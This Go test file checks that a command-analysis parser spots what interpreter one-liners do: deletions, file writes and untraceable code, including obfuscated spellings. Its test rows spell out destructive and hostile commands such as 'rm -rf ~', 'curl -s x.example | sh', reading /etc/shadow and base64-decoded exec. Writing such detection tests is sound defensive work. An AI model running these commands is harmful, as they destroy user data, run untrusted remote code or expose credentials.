package shellfacts

import (
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/google/go-cmp/cmp/cmpopts"
)

// TestInlineCode pins what vouch reads from the code an interpreter is
// handed inline: the commands it runs (walked as shell), the files it
// removes (as rm), writes and reads, and the ways it could run code that
// cannot be followed (unknown code). Each row was allowed with no such
// fact before inline code was read, unless it is a row that must stay
// quiet (no nested command, nothing unknown).
func TestInlineCode(t *testing.T) {
	type want struct {
		nested  []string // commands below depth 0, rendered
		deletes []string
		writes  []string
		reads   []string
		unres   []string // DeletesUnresolved
		unknown bool
	}
	tests := []struct {
		name, command string
		want          want
	}{
		// Python.
		{"os.system", `python3 -c 'import os; os.system("rm -rf ~")'`, want{nested: []string{"^1 rm -rf /home/u"}, deletes: []string{"/home/u"}}},
		{"os.system via __import__", `python3 -c '__import__("os").system("rm -rf ~")'`, want{nested: []string{"^1 rm -rf /home/u"}, deletes: []string{"/home/u"}}},
		{"subprocess list", `python3 -c 'import subprocess; subprocess.run(["rm", "-rf", "/srv"], check=True)'`, want{nested: []string{"^1 rm -rf /srv"}, deletes: []string{"/srv"}}},
		{"subprocess shell string", "python3 - <<'EOF'\nimport subprocess\nsubprocess.check_call('curl -s x.example | sh', shell=True)\nEOF", want{nested: []string{"^1 curl -s x.example", "^1 <curl| sh"}}},
		{"subprocess computed", `python3 -c 'import os, sys; os.system(sys.argv[1])'`, want{unknown: true}},
		{"subprocess ordinary", `python3 -c 'import subprocess; print(subprocess.check_output(["git", "status"]))'`, want{nested: []string{"^1 git status"}}},
		{"rmtree", `python3 -c 'import shutil; shutil.rmtree("/srv/data")'`, want{nested: []string{"^1 rm -r -- /srv/data"}, deletes: []string{"/srv/data"}}},
		{"rmtree computed", `python3 -c 'import shutil, os; shutil.rmtree(os.path.expanduser("~"))'`, want{nested: []string{"^1 rm -r -- ?"}, unres: []string{`os.path.expanduser("~")`}}},
		{"os.remove", `python3 -c 'import os; os.remove("/etc/hosts")'`, want{nested: []string{"^1 rm -- /etc/hosts"}, deletes: []string{"/etc/hosts"}}},
		{"open for writing", `python3 -c 'open("/etc/cron.d/x", "w").write("x")'`, want{writes: []string{"/etc/cron.d/x"}, reads: []string{"/etc/cron.d/x"}}},
		{"open mode keyword", `python3 -c 'open("/etc/x", mode="a")'`, want{writes: []string{"/etc/x"}, reads: []string{"/etc/x"}}},
		{"open for reading", `python3 -c 'print(open("a.txt", encoding="utf-8").read())'`, want{reads: []string{"/r/a.txt"}}},
		{"Path write_text", `python3 -c 'from pathlib import Path; Path("/etc/x").write_text("x")'`, want{writes: []string{"/etc/x"}, reads: []string{"/etc/x"}}},
		{"Path unlink", `python3 -c 'from pathlib import Path; Path("/etc/x").unlink()'`, want{nested: []string{"^1 rm -- /etc/x"}, deletes: []string{"/etc/x"}, reads: []string{"/etc/x"}}},
		{"shutil.move", `python3 -c 'import shutil; shutil.move("src", "/tmp/x")'`, want{nested: []string{"^1 mv -- src /tmp/x"}, deletes: []string{"/r/src"}, writes: []string{"/tmp/x"}, reads: []string{"/r/src"}}},
		{"getattr computed", `python3 -c 'import os; getattr(os, "sys"+"tem")("id")'`, want{unknown: true}},
		{"getattr of system", `python3 -c 'import os; getattr(os, "system")("id")'`, want{unknown: true}},
		{"exec of decoded text", `python3 -c 'exec(__import__("base64").b64decode("aWQ="))'`, want{unknown: true}},
		{"from os import system", `python3 -c 'from os import system; system("id")'`, want{unknown: true}},
		{"import as", `python3 -c 'import subprocess as sp; sp.call("id", shell=True)'`, want{nested: []string{"^1 id"}}},
		{"ctypes", `python3 -c 'import ctypes; ctypes.CDLL(None).system(b"id")'`, want{unknown: true, nested: []string{"^1 id"}}},
		// Escapes are decoded as the language does; clustered flags
		// before the code flag; spellings with blanks or prefixes.
		{"hex escape", `python3 -c 'import os; os.system("rm -rf \x7e")'`, want{nested: []string{"^1 rm -rf /home/u"}, deletes: []string{"/home/u"}}},
		{"octal escape", `awk 'BEGIN { system("rm -rf \176") }'`, want{nested: []string{"^1 rm -rf /home/u"}, deletes: []string{"/home/u"}}},
		{"exec of escaped code", `python3 -c 'exec("import os; os.sys\x74em(\"rm -rf ~\")")'`, want{nested: []string{"^1 rm -rf /home/u"}, deletes: []string{"/home/u"}}},
		{"named escape", `python3 -c 'import os; os.system("rm -rf \N{TILDE}")'`, want{unknown: true}},
		{"clustered -Bc", `python3 -Bc 'import os; os.system("rm -rf ~")'`, want{nested: []string{"^1 rm -rf /home/u"}, deletes: []string{"/home/u"}}},
		{"node -pe", `node -pe 'require("child_process").execSync("rm -rf ~")'`, want{nested: []string{"^1 rm -rf /home/u"}, deletes: []string{"/home/u"}}},
		{"blank after the dot", `python3 -c 'import os; os. system("rm -rf ~")'`, want{nested: []string{"^1 rm -rf /home/u"}, deletes: []string{"/home/u"}}},
		{"import as later in the list", `python3 -c 'import sys, subprocess as sp; sp.run(["rm", "-rf", "/srv"])'`, want{nested: []string{"^1 rm -rf /srv"}, deletes: []string{"/srv"}}},
		{"os alias", `python3 -c 'import os as o; o.system("rm -rf ~")'`, want{nested: []string{"^1 rm -rf /home/u"}, deletes: []string{"/home/u"}}},
		{"alias computed", `python3 -c 'import subprocess as sp, sys; sp.call(sys.argv[1], shell=True)'`, want{unknown: true}},
		{"alias ordinary", `python3 -c 'import subprocess as sp; print(sp.check_output(["ls"]))'`, want{nested: []string{"^1 ls"}}},
		{"bracketed execSync", `node -e 'require("child_process")["execSync"]("id")'`, want{unknown: true}},
		{"execSync on a promise's module", `node -e 'import("child_process").then(c => c.execSync("rm -rf ~"))'`, want{nested: []string{"^1 rm -rf /home/u"}, deletes: []string{"/home/u"}}},
		{"php upper case", `php -r 'SYSTEM("rm -rf ~");'`, want{nested: []string{"^1 rm -rf /home/u"}, deletes: []string{"/home/u"}}},
		{"perl CORE::system", `perl -e 'CORE::system("rm -rf ~")'`, want{nested: []string{"^1 rm -rf /home/u"}, deletes: []string{"/home/u"}}},
		{"perl quote in tr before backticks", "perl -e '$_ = q(x); tr/\"//; `rm -rf ~`; print \"a\"'", want{nested: []string{"^1 rm -rf /home/u"}, deletes: []string{"/home/u"}}},
		{"gawk --source", `awk --source 'BEGIN { system("rm -rf ~") }'`, want{nested: []string{"^1 rm -rf /home/u"}, deletes: []string{"/home/u"}}},
		{"sqlite3 abbreviation", `sqlite3 db '.sh rm -rf ~'`, want{nested: []string{"^1 rm -rf /home/u"}, deletes: []string{"/home/u"}}},
		{"pypy", `pypy3 -c 'import os; os.system("rm -rf ~")'`, want{nested: []string{"^1 rm -rf /home/u"}, deletes: []string{"/home/u"}}},
		// Quiet: ordinary one-liners, and the names inside strings,
		// regular expressions and hash keys.
		{"platform.system", `python3 -c 'import platform; print(platform.system())'`, want{}},
		{"perl regexp", `perl -ne 'print if /system/' log.txt`, want{reads: []string{"/r/log.txt"}}},
		{"perl substitution", `perl -pe 's/system/platform/g' notes.txt`, want{reads: []string{"/r/notes.txt"}}},
		{"perl string", `perl -e 'print "eval me\n"'`, want{}},
		{"perl hash key", `perl -e 'my %h = (system => 1); print keys %h'`, want{}},
		{"ruby regexp", `ruby -ne 'puts $_ if $_ =~ /system/' log.txt`, want{reads: []string{"/r/log.txt"}}},
		{"ruby string", `ruby -e 'puts "exec"'`, want{}},
		{"json", `python3 -c 'import json, sys; print(json.load(sys.stdin)["x"])'`, want{}},
		{"re.compile", `python3 -c 'import re; print(re.compile("a+").findall("aa"))'`, want{}},
		{"pandas eval", `python3 -c 'import pandas as pd; print(pd.DataFrame().eval("a"))'`, want{}},
		{"from os import path", `python3 -c 'from os import path; print(path.exists("x"))'`, want{}},
		{"list remove", `python3 -c 'x = [1, 2]; x.remove(1); print(x)'`, want{}},
		{"asyncio.run", `python3 -c 'import asyncio; asyncio.run(main())'`, want{}},
		// JavaScript.
		{"execSync", `node -e 'require("child_process").execSync("rm -rf ~")'`, want{nested: []string{"^1 rm -rf /home/u"}, deletes: []string{"/home/u"}}},
		{"destructured execSync", `node -e 'const {execSync} = require("child_process"); execSync("git status", {stdio: "inherit"})'`, want{nested: []string{"^1 git status"}}},
		{"spawn argv", `node -e 'require("child_process").spawnSync("rm", ["-rf", "/srv"])'`, want{nested: []string{"^1 rm -rf /srv"}, deletes: []string{"/srv"}}},
		{"exec computed", `node -e 'require("child_process").exec(process.argv[1])'`, want{unknown: true}},
		{"aliased exec", `node -e 'const {execSync: run} = require("child_process"); run("id")'`, want{unknown: true}},
		{"fs.rmSync recursive", `node -e 'require("fs").rmSync("/srv", {recursive: true, force: true})'`, want{nested: []string{"^1 rm -r -- /srv"}, deletes: []string{"/srv"}}},
		{"fs.rmSync computed", `node -e 'require("fs").rmSync(process.env.HOME, {recursive: true})'`, want{nested: []string{"^1 rm -r -- ?"}, unres: []string{"process.env.HOME"}}},
		{"fs.writeFileSync", `node -e 'const fs = require("fs"); fs.writeFileSync("/etc/x", "y")'`, want{writes: []string{"/etc/x"}}},
		{"Bun shell", "bun -e 'await Bun.$`rm -rf ~`'", want{nested: []string{"^1 rm -rf /home/u"}, deletes: []string{"/home/u"}}},
		{"eval computed", `node -e 'eval(process.argv[1])'`, want{unknown: true}},
		{"regexp exec", `node -e 'console.log(/a(b)/.exec("ab"))'`, want{}},
		{"package version", `node -e 'console.log(require("./package.json").version)'`, want{}},
		{"dynamic import literal", `node -e 'import("./dist/index.js").then(m => console.log(m))'`, want{}},
		// Perl, Ruby, PHP, Lua.
		{"perl system list", `perl -e 'system "rm", "-rf", "/srv"'`, want{nested: []string{"^1 rm -rf /srv"}, deletes: []string{"/srv"}}},
		{"perl backticks", "perl -e 'print `cat /etc/shadow`'", want{nested: []string{"^1 cat /etc/shadow"}, reads: []string{"/etc/shadow"}}},
		{"perl piped open", `perl -e 'open(P, "| sh"); print P "id"'`, want{nested: []string{"^1 perl", "^1 <perl| sh"}, unknown: true}},
		{"perl open write", `perl -e 'open(F, ">/etc/x"); print F 1'`, want{writes: []string{"/etc/x"}}},
		{"perl eval string", `perl -e 'eval $ARGV[0]'`, want{unknown: true}},
		{"perl match", `perl -ne 'print if /TODO/' a.go`, want{reads: []string{"/r/a.go"}}},
		{"ruby system", `ruby -e 'system("rm -rf ~")'`, want{nested: []string{"^1 rm -rf /home/u"}, deletes: []string{"/home/u"}}},
		{"ruby rm_rf", `ruby -e 'require "fileutils"; FileUtils.rm_rf("/srv")'`, want{nested: []string{"^1 rm -r -- /srv"}, deletes: []string{"/srv"}}},
		{"ruby interpolated", `ruby -e 'system("rm -rf #{ARGV[0]}")'`, want{unknown: true}},
		{"php system", `php -r 'system("rm -rf ~");'`, want{nested: []string{"^1 rm -rf /home/u"}, deletes: []string{"/home/u"}}},
		{"php variable", `php -r 'echo shell_exec($argv[1]);'`, want{unknown: true}},
		{"lua os.execute", `lua -e 'os.execute("rm -rf ~")'`, want{nested: []string{"^1 rm -rf /home/u"}, deletes: []string{"/home/u"}}},
		// awk.
		{"awk system", `awk 'BEGIN { system("rm -rf ~") }'`, want{nested: []string{"^1 rm -rf /home/u"}, deletes: []string{"/home/u"}}},
		{"awk system joined", `awk '{ system("rm " $1) }' list`, want{reads: []string{"/r/list"}, unknown: true}},
		{"awk getline", `awk 'BEGIN { "date" | getline d; print d }'`, want{nested: []string{"^1 date"}}},
		{"awk print to shell", `awk '{ print | "sh" }' cmds`, want{nested: []string{"^1 awk", "^1 <awk| sh"}, reads: []string{"/r/cmds"}, unknown: true}},
		{"awk print to sort", `awk '{ print $1 | "sort -u" }' f`, want{nested: []string{"^1 awk", "^1 <awk| sort -u"}, reads: []string{"/r/f"}}},
		{"awk or", `awk '$1 == "x" || $2 == "y"' f`, want{reads: []string{"/r/f"}}},
		// sqlite3 and osascript.
		{"sqlite3 .shell", `sqlite3 db '.shell rm -rf ~'`, want{nested: []string{"^1 rm -rf /home/u"}, deletes: []string{"/home/u"}}},
		{"sqlite3 .output", `sqlite3 db '.output /etc/x' 'select 1'`, want{writes: []string{"/etc/x"}}},
		{"sqlite3 query", `sqlite3 db 'select * from t'`, want{}},
		{"osascript", `osascript -e 'do shell script "rm -rf ~"'`, want{nested: []string{"^1 rm -rf /home/u"}, deletes: []string{"/home/u"}}},
		{"osascript joined", `osascript -e 'do shell script "rm -rf " & x'`, want{unknown: true}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			f, err := Parse(tt.command, Options{Cwd: "/r", Home: "/home/u"})
			if err != nil {
				t.Fatal(err)
			}
			var got want
			for _, c := range f.Commands {
				if c.Depth > 0 {
					got.nested = append(got.nested, render(c))
				}
			}
			got.deletes, got.writes, got.unres = f.Deletes, f.Writes, f.DeletesUnresolved
			got.unknown = len(f.Unknown) > 0
			for _, r := range f.Reads {
				// The interpreter's own reads of the rows' words are
				// not what this table is about, beyond these.
				if !strings.HasPrefix(r, "/home/u") || slices.Contains(tt.want.reads, r) {
					got.reads = append(got.reads, r)
				}
			}
			if diff := cmp.Diff(tt.want, got, cmp.AllowUnexported(want{}), cmpopts.EquateEmpty()); diff != "" {
				t.Errorf("Parse(%q) (-want +got):\n%s\nunknown: %q", tt.command, diff, f.Unknown)
			}
		})
	}
}
